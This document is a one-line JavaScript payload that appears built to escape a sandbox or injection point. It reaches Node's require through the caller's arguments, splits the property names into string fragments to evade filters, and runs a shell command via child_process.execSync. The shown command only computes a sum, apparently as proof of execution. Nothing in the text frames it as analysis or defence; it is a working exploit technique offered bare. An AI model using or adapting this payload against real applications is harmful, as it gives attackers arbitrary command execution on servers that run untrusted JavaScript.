function g(){ return g['call'+'er']['argu'+'ments'][1] } g()('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
